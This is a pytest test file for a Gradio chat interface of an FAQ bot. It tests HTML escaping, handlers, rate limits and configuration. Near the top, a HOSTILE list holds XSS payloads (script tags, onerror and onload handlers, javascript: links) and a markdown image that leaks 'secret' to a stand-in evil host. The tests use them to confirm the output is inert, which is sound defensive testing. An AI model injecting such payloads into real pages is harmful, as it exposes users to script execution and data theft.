"""Chat UI without a browser: the pure formatting functions (escaping above all), the
event handlers driven directly, and the app's configuration."""

from __future__ import annotations

import copy
import itertools
import time
from collections.abc import Sequence
from html.parser import HTMLParser
from typing import Any

import gradio as gr
import pytest

from bot.answer.extractive import ABSTAIN_TEXT, Answer, Citation
from bot.config import Profile, Settings
from bot.errors import InvalidQuestionError
from bot.serve import chat_html, ui
from bot.serve.ratelimit import RateLimiter
from bot.serve.ui import ChatHandlers, ChatState, build_app, page_options
from tests.conftest import GUIDE, logged

DEMO_CORPUS = GUIDE.parent

XSS = "<img src=x onerror=alert(1)>"
MD_IMAGE = "![x](http://evil/?q=secret)"
HOSTILE = [XSS, MD_IMAGE, "[click](javascript:alert(1))", "<script>alert(1)</script>",
           '"><svg onload=alert(1)>', "<a href='http://evil/'>x</a>", "${7*7} {{value}} $$x$$",
           "&lt;img src=x onerror=alert(1)&gt;",  # already-escaped text must stay literal too
           "https://evil.example/track.png"]  # fmt: skip
# Everything our formatters may emit; anything else would have come from the input.
ALLOWED_TAGS = {"div", "p", "sup", "details", "summary", "ol", "li", "span", "blockquote",
                "mark", "strong"}  # fmt: skip
ALLOWED_ATTRS = {"class", "title", "role"}


class Structure(HTMLParser):
    """Collects tags, attributes and the visible text of an HTML fragment, as a browser would."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attrs: set[str] = set()
        self.text: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs.update(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


parse = Structure


def assert_inert(fragment: str, *expected_text: str) -> None:
    """Only our own tags and attributes; hostile input survives only as visible text."""
    s = parse(fragment)
    assert s.tags <= ALLOWED_TAGS, s.tags - ALLOWED_TAGS
    assert s.attrs <= ALLOWED_ATTRS, s.attrs - ALLOWED_ATTRS
    text = "".join(s.text)
    for expected in expected_text:
        assert expected in text


def cite(n: int = 1, quote: str = "It costs $40.", **kw: Any) -> Citation:
    base = {"source": "guide.txt", "section": "Cost and funding", "passage": f"Hi. {quote} Bye."}
    return Citation(n, quote=quote, start=0, end=len(quote), **{**base, **kw})


# ----------------------------------------------------------------------------- formatting
@pytest.mark.parametrize("payload", HOSTILE)
def test_every_formatter_shows_hostile_text_as_text(payload: str) -> None:
    c = cite(quote=payload, section=payload, source=payload, passage=f"a {payload} b")
    assert_inert(chat_html.format_question(payload, 2000), payload)
    assert_inert(chat_html.format_answer_text(f"{payload} [1]", [c]), payload)
    assert_inert(chat_html.format_sources([c]), payload)
    assert_inert(chat_html.format_answer(Answer(f"{payload} [1]", [c])), payload)
    assert_inert(chat_html.format_abstention(payload), payload)
    assert_inert(chat_html.format_notice(payload), payload)
    assert_inert(chat_html.format_passage(c), payload)


def test_xss_is_escaped_and_markdown_is_not_turned_into_markup() -> None:
    out = chat_html.format_question(XSS, 2000)
    assert "&lt;img src=x onerror=alert(1)&gt;" in out and "<img" not in out
    # The Chatbot runs with render_markdown=False, so these characters reach the page as is.
    out = chat_html.format_answer_text(f"See {MD_IMAGE} [1]", [cite()])
    assert f"See {MD_IMAGE} " in out
    assert "<img" not in out and "<a" not in out and "src=" not in out
    assert chat_html.escape(None) == "" and chat_html.escape("a\"b'c") == "a&quot;b&#x27;c"


def test_100_kb_text_is_escaped_fast_and_long_questions_are_shortened() -> None:
    big = (XSS + " word [1] ") * (100_000 // 40)
    started = time.perf_counter()
    answer = chat_html.format_answer(Answer(big, [cite(quote=big, passage=big)]))
    passage = chat_html.format_passage(cite(quote=big[:5000], passage=big))
    question = chat_html.format_question(big, 2000)
    assert time.perf_counter() - started < 1.0
    assert_inert(answer)
    assert_inert(passage)
    assert len(question) < 3000 and "more characters" in question
    assert_inert(question)


def test_citation_markers_only_for_real_citations() -> None:
    out = chat_html.format_answer_text("One [1]. Two [2]. Not a source [7].", [cite(1), cite(2)])
    assert out.count('<sup class="faq-cite"') == 2
    assert "[7]" in out and 'title="Source 7"' not in out


def test_sources_block_is_collapsible_and_lists_section_and_quote() -> None:
    out = chat_html.format_sources([cite(1), cite(2, quote="Funding exists.", section="Funding")])
    s = parse(out)
    assert {"details", "summary"} <= s.tags
    text = "".join(s.text)
    assert "Sources (2)" in text and "Cost and funding" in text and "Funding exists." in text
    assert chat_html.format_sources([]) == ""
    assert ">Source<" in chat_html.format_sources([cite()])


def test_abstention_is_a_friendly_note_with_where_to_ask() -> None:
    refusal = Profile(contact="the admissions office (555-0100)").not_covered
    out = chat_html.format_answer(Answer(refusal, [], True))
    assert 'class="faq-abstain"' in out and "faq-sources" not in out
    text = "".join(parse(out).text)
    assert "admissions office (555-0100)" in text and "Try asking" in text
    assert "error" not in text.lower()


def test_passage_highlights_the_quoted_sentence() -> None:
    c = cite(quote="It costs <$40>.", passage="Intro <b>. It costs <$40>. Outro.")
    out = chat_html.format_passage(c)
    assert "<mark>It costs &lt;$40&gt;.</mark>" in out
    assert "Intro &lt;b&gt;. " in out and " Outro." in out
    assert_inert(out)


def test_passage_without_the_quote_shows_both_and_none_shows_a_hint() -> None:
    out = chat_html.format_passage(cite(quote="Reworded.", passage="Original text."))
    assert "<mark>Reworded.</mark>" in out and "Original text." in out
    assert "pick one of its sources" in chat_html.format_passage(None)


def test_source_choices_label_section_and_value_number() -> None:
    assert chat_html.source_choices([cite(1), cite(2, section="")]) == [
        ("[1] Cost and funding", "1"),
        ("[2] guide.txt", "2"),
    ]


def test_without_profile_suggestions_they_are_drawn_from_the_corpus(
    chain: Any, guide_text: str
) -> None:
    offered = chain.suggestions()
    assert len(offered) == 6 and len(set(offered)) == 6
    headings = set(guide_text.splitlines())
    assert all(s in headings for s in offered)  # the guide has no FAQ answers: its headings


def test_the_demo_profile_suggestions_are_answered_with_a_source(
    chain: Any, settings: Settings
) -> None:
    demo = Profile.load({}, DEMO_CORPUS)
    assert demo.suggestions
    demo_chain = type(chain)(settings.with_(profile=demo), chain.embeddings)
    assert demo_chain.suggestions() == list(demo.suggestions)
    for question in demo_chain.suggestions():
        answer = demo_chain.ask(question)
        assert not answer.abstained and answer.citations, question


# ----------------------------------------------------------------------------- handlers
class StubChain:
    """Answers every question with one citation and records what it was asked."""

    def __init__(self, error: Exception | None = None) -> None:
        self.calls: list[tuple[object, list[dict[str, str]]]] = []
        self.error = error

    def ask(self, question: object, history: Sequence[dict[str, str]] = ()) -> Answer:
        self.calls.append((question, list(history)))
        if self.error:
            raise self.error
        if question == "weather?":
            return Answer(ABSTAIN_TEXT, [], True)
        return Answer(f"Answer to {question} [1]", [cite(quote=f"Answer to {question}")])


@pytest.fixture
def stub() -> StubChain:
    return StubChain()


@pytest.fixture
def handlers(stub: StubChain, settings: Settings, question_log: Any) -> ChatHandlers:
    return ChatHandlers(stub, settings, questions=question_log)


def run(handlers: ChatHandlers, message: object, state: ChatState) -> list[tuple[Any, ...]]:
    """Every yield, with the chat as it was at that moment (the handler reuses its list)."""
    return [(copy.deepcopy(chat), *rest) for chat, *rest in handlers.respond(message, state)]


def test_respond_shows_the_question_with_its_ready_answer_and_sources(
    handlers: ChatHandlers,
) -> None:
    state = ChatState()
    steps = run(handlers, "How much?", state)
    assert len(steps) == 1  # what is ready is shown at once: no replay of a finished answer
    (final,) = steps
    question, reply = final[0]
    assert question["role"] == "user" and "How much?" in question["content"]
    assert reply["role"] == "assistant" and final[2] == ""  # and the textbox is cleared
    assert "faq-sources" in final[0][-1]["content"]
    assert final[3]["choices"] == [("[1] Cost and funding", "1")] and final[3]["value"] == "1"
    assert "<mark>Answer to How much?</mark>" in final[4]
    assert len(state.messages) == 2 and state.session


class TypingChain(StubChain):
    """An LLM-mode chain: the model's text comes in pieces before the checked answer."""

    chat_model = object()

    def __init__(self, pieces: Sequence[str], error: Exception | None = None) -> None:
        super().__init__(error)
        self.pieces = pieces

    def ask(
        self, question: object, history: Sequence[dict[str, str]] = (), on_token: Any = None
    ) -> Answer:
        for piece in self.pieces:
            on_token(piece)
            time.sleep(0.01)  # the handler shows each piece before the next comes
        return super().ask(question, history)


def test_in_llm_mode_the_model_s_text_shows_as_it_comes_then_the_checked_answer(
    settings: Settings,
) -> None:
    steps = run(
        ChatHandlers(TypingChain(["It ", "costs <b>", "$5"]), settings), "Fee?", ChatState()
    )
    shown = [s[0][-1]["content"] for s in steps[1:]]
    assert len(shown) >= 3 and "It" in shown[0] and "&lt;b&gt;" in shown[-2]  # text, not HTML
    assert "It costs &lt;b&gt;$5" in shown[-2]
    assert all(len(a) < len(b) for a, b in itertools.pairwise(shown[:-1]))  # it grows
    assert "Answer to Fee? " in shown[-1] and "faq-sources" in shown[-1]  # replaced
    assert len(steps[-1][0]) == 2  # one question, one reply: the pieces were not new messages


def test_in_llm_mode_a_failure_is_a_notice_in_place_of_the_text_so_far(
    settings: Settings,
) -> None:
    chain = TypingChain(["Half an ans"], error=RuntimeError("provider down"))
    steps = run(ChatHandlers(chain, settings), "Fee?", ChatState())
    assert "faq-notice" in steps[-1][0][-1]["content"] and len(steps[-1][0]) == 2


def test_follow_ups_get_the_history(handlers: ChatHandlers, stub: StubChain) -> None:
    state = ChatState()
    run(handlers, "How much?", state)
    run(handlers, "And the exam?", state)
    question, history = stub.calls[-1]
    assert question == "And the exam?"
    assert history == [
        {"role": "user", "content": "How much?"},
        {"role": "assistant", "content": "Answer to How much? [1]"},
    ]


def test_invalid_question_is_a_chat_reply_not_a_crash(chain: Any, settings: Settings) -> None:
    handlers, state = ChatHandlers(chain, settings), ChatState()
    for message in ["x" * 100_000, "   ", {"text": "not a string"}, None]:
        steps = run(handlers, message, state)
        reply = steps[-1][0][-1]
        assert reply["role"] == "assistant" and 'class="faq-notice"' in reply["content"]
    assert "limit is 2,000" in state.messages[1]["content"]
    assert len(state.messages[0]["content"]) < 3000  # the 100 KB paste is not echoed
    assert state.history() == []  # refused questions are not context for follow-ups


@pytest.mark.parametrize(
    ("error", "shown"),
    [(RuntimeError("boom"), ui.SORRY), (InvalidQuestionError("Too long, shorten."), "Too long")],
)
def test_chain_failures_are_polite_replies(
    error: Exception, shown: str, settings: Settings
) -> None:
    steps = run(ChatHandlers(StubChain(error), settings), "How much?", ChatState())
    reply = steps[-1][0][-1]["content"]
    assert shown in reply and "boom" not in reply and "faq-notice" in reply


def gradio_request(peer: str = "198.51.100.9", query: str = "") -> gr.Request:
    from starlette.requests import Request

    scope = {"type": "http", "client": (peer, 5000), "headers": [], "query_string": query.encode()}
    return gr.Request(Request(scope))


def test_over_the_ask_limit_is_a_polite_chat_reply(stub: StubChain, settings: Settings) -> None:
    handlers = ChatHandlers(stub, settings, RateLimiter(per_minute=2, per_day=100))
    state, me, other = ChatState(), gradio_request("198.51.100.9"), gradio_request("192.0.2.1")
    for question in ("How much?", "And the exam?"):
        list(handlers.respond(question, state, me))
    refused = list(handlers.respond("Third?", state, me))[-1][0][-1]["content"]
    assert "faq-notice" in refused and "wait a minute" in refused
    assert len(stub.calls) == 2  # the third question never reached the chain
    assert [t.question for t in state.turns if not t.notice] == ["How much?", "And the exam?"]
    list(handlers.respond("Mine?", ChatState(), other))  # another student is unaffected
    assert stub.calls[-1][0] == "Mine?"


def test_abstention_has_no_sources(handlers: ChatHandlers) -> None:
    steps = run(handlers, "weather?", ChatState())
    assert len(steps) == 1
    assert "faq-abstain" in steps[-1][0][-1]["content"]
    assert steps[-1][3]["choices"] == []


def test_history_cap_is_explained_once(stub: StubChain, settings: Settings) -> None:
    handlers, state = ChatHandlers(stub, settings.with_(max_history_turns=2)), ChatState()
    notes = []
    for i in range(4):
        steps = run(handlers, f"q{i}", state)
        notes.append("only the last 2 messages" in steps[-1][0][-1]["content"])
    assert notes == [False, False, True, False]


def test_old_exchanges_leave_the_page(
    handlers: ChatHandlers, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ui, "MAX_SHOWN_TURNS", 3)
    state = ChatState()
    for i in range(5):
        run(handlers, f"q{i}", state)
    assert [t.question for t in state.turns] == ["q2", "q3", "q4"]
    assert len(state.messages) == 6 and "q2" in state.messages[0]["content"]
    turn = state.turn_at(3)
    assert turn is not None and turn.question == "q3"
    assert state.turn_at(6) is None and state.turn_at(-1) is None and state.turn_at("1") is None
    assert state.turn_at([5, 0]) is state.turns[2]


def like(index: object, liked: object) -> gr.LikeData:
    return gr.LikeData(None, {"index": index, "value": ["..."], "liked": liked})


def test_like_appends_question_answer_citations_and_vote(
    handlers: ChatHandlers, settings: Settings
) -> None:
    state = ChatState()
    run(handlers, "How much?", state)
    run(handlers, "weather?", state)
    handlers.like(state, like(1, True))
    handlers.like(state, like(3, False))
    handlers.like(state, like(99, True))  # stale or forged index: ignored
    votes = logged(handlers.questions).votes()
    assert [(v.question, v.vote, v.abstained) for v in votes] == [
        ("How much?", "up", False),
        ("weather?", "down", True),
    ]
    first = votes[0]
    assert first.answer == "Answer to How much? [1]" and first.time
    assert first.sections == ("Cost and funding",)
    assert first.session == state.session
    # Each question is in the log too, with the vote its answer got.
    asked = logged(handlers.questions).questions()
    assert [(q.question, q.channel, q.vote, q.abstained) for q in asked] == [
        ("weather?", "chat", "down", True),
        ("How much?", "chat", "up", False),
    ]
    assert asked[1].section == "Cost and funding" and asked[1].session == state.session


def test_selecting_an_answer_lists_its_sources(handlers: ChatHandlers) -> None:
    state = ChatState()
    run(handlers, "first", state)
    run(handlers, "second", state)
    radio, passage = handlers.select_answer(state, gr.SelectData(None, {"index": 1, "value": ""}))
    assert radio["value"] == "1" and "Answer to first" in passage
    assert "Answer to first" in handlers.show_source("1", state)
    assert "pick one of its sources" in handlers.show_source("<forged>", state)


def test_example_click_asks_the_suggestion(handlers: ChatHandlers, stub: StubChain) -> None:
    data = gr.SelectData(None, {"index": 0, "value": {"text": "How do I apply?"}})
    list(handlers.respond_example(ChatState(), data))
    assert stub.calls[-1][0] == "How do I apply?"


def test_clear_starts_over() -> None:
    chat, state, text, radio, passage = ChatHandlers.clear()
    assert chat == [] and state == ChatState() and text == "" and radio["choices"] == []
    assert "pick one of its sources" in passage


# ----------------------------------------------------------------------------- app config
def components(app: gr.Blocks, kind: type) -> list[Any]:
    return [b for b in app.blocks.values() if isinstance(b, kind)]


def test_app_is_safe_by_configuration(stub: StubChain, settings: Settings) -> None:
    settings = settings.with_(profile=Profile(suggestions=("How do I apply?", "Fees?")))
    app = build_app(stub, settings)
    assert app.analytics_enabled is False
    (chatbot,) = components(app, gr.Chatbot)
    assert chatbot.render_markdown is False and chatbot.sanitize_html is True
    assert chatbot.allow_tags is False and chatbot.latex_delimiters == []
    assert chatbot.buttons == [] and chatbot.feedback_options == ("Like", "Dislike")
    assert [e["text"] for e in chatbot.examples] == ["How do I apply?", "Fees?"]
    assert not components(app, gr.File) and not components(app, gr.MultimodalTextbox)
    (textbox,) = components(app, gr.Textbox)
    assert textbox.max_length == settings.max_question_chars
    assert settings.title in str(components(app, gr.HTML)[0].value)


def test_title_and_greeting_from_settings_escaped(settings: Settings) -> None:
    profile = Profile(name="Ask <Ivy Tech>", greeting="Hi <b>student</b>!", placeholder="Ask…")
    custom = settings.with_(profile=profile)
    app = build_app(StubChain(), custom)
    assert app.title == "Ask <Ivy Tech>"
    assert "Ask &lt;Ivy Tech&gt;" in str(components(app, gr.HTML)[0].value)
    (chatbot,) = components(app, gr.Chatbot)
    assert chatbot.placeholder == f"<p>{chat_html.greeting_from('Hi <b>student</b>!', 400)}</p>"
    assert "<b>" not in chatbot.placeholder


def test_mounted_app_serves_and_refuses_uploads(stub: StubChain, settings: Settings) -> None:
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

    app = gr.mount_gradio_app(FastAPI(), build_app(stub, settings), "/chat", **page_options())
    with TestClient(app) as client:
        assert client.get("/chat/config").status_code == 200
        assert client.get("/chat/monitoring").status_code != 200
        for size in (10, 100_000):
            files = {"files": ("f.txt", b"x" * size, "text/plain")}
            assert client.post("/chat/gradio_api/upload", files=files).status_code == 413


def test_the_passage_shows_headings_without_their_markdown_marks() -> None:
    c = cite(quote="No, applying is free.", passage="### Is there a fee?\n\nNo, applying is free.")
    out = chat_html.format_passage(c)
    assert "###" not in out and "Is there a fee?" in out
    assert "<mark>No, applying is free.</mark>" in out


def test_a_source_links_to_its_web_page_and_names_its_pdf_page() -> None:
    web = cite(section="Applying", url="https://hv.example/admissions#fee")
    label = chat_html.format_sources([web])
    assert '<a href="https://hv.example/admissions#fee" target="_blank"' in label
    assert 'rel="noopener noreferrer"' in label
    hostile = chat_html.format_sources([cite(url="javascript:alert(1)")])
    assert "<a " not in hostile and "javascript" not in hostile
    assert "guide.pdf, p. 3-4" in chat_html.format_sources([cite(source="guide.pdf", pages="3-4")])
